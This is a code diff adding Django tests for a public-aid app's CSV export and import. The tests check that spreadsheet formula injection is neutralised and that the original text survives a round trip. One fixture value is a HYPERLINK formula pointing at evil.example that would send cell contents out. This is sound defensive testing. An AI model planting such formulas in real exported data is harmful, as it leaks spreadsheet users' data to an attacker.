@@ -265,6 +265,53 @@ def test_csv_export_reimports_unchanged(client, personas, funders):
     assert aid.title == "Aller-retour" and aid.amount_max == 250
 
 
+def test_csv_export_defuses_formulas_and_reimports_the_text_as_typed(client, personas, funders):
+    """CSV injection: text typed by an agent that a spreadsheet would run (``=``, ``+``,
+    ``-``, ``@``) is exported with a protective apostrophe, and the import removes it, so the
+    round trip gives back exactly what was typed (even text already starting with ``'=``)."""
+    import csv
+    import io
+
+    typed = {
+        "title": '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")',
+        "promise": "-20 % sur la cantine",
+        "description": "+33 4 91 00 00 00",
+        "eligibility": "'=déjà protégé à la saisie",
+        "examples": "@SUM(1+1)",
+        "keywords": "-12.5",
+        "amount_text": "'Jusqu'à 300 €",
+        "contact": "Mairie, 04 91 00 00 00",
+    }
+    aid = make_aid(funders["marseille"], external_id="m-inj", **typed)
+    csv_text = client.get("/aides/export/aides.csv").content.decode()
+    row = next(csv.DictReader(io.StringIO(csv_text)))
+    assert row["title"] == "'" + typed["title"]
+    assert row["promise"] == "'-20 % sur la cantine"
+    assert row["description"] == "'+33 4 91 00 00 00"
+    assert row["eligibility"] == "''=déjà protégé à la saisie"
+    assert row["examples"] == "'@SUM(1+1)"
+    assert row["keywords"] == "-12.5"  # a plain number stays a number
+    assert row["amount_text"] == typed["amount_text"]
+    assert row["contact"] == typed["contact"]
+    for value in row.values():
+        assert value[:1] not in "=+@" or value == "", value
+    client.force_login(personas["commune_agent"])
+    report = _upload(client, funders["marseille"], csv_text, dry_run=False).context["report"]
+    assert (report.created, report.updated, report.errors) == (0, 1, [])
+    aid.refresh_from_db()
+    for name, value in typed.items():
+        assert getattr(aid, name) == value, name
+
+
+def test_csv_import_keeps_an_apostrophe_that_protects_nothing(client, personas, funders):
+    client.force_login(personas["commune_agent"])
+    text = HEADER + "m-1,'Quartier d'été,'=1+1,resident,grant,,metropolis,,\n"
+    report = _upload(client, funders["marseille"], text, dry_run=False).context["report"]
+    assert report.created == 1, report.errors
+    aid = Aid.objects.get(external_id="m-1")
+    assert (aid.title, aid.promise) == ("'Quartier d'été", "=1+1")
+
+
 def test_backoffice_list_query_count_is_constant(
     client, personas, funders, django_assert_max_num_queries
 ):
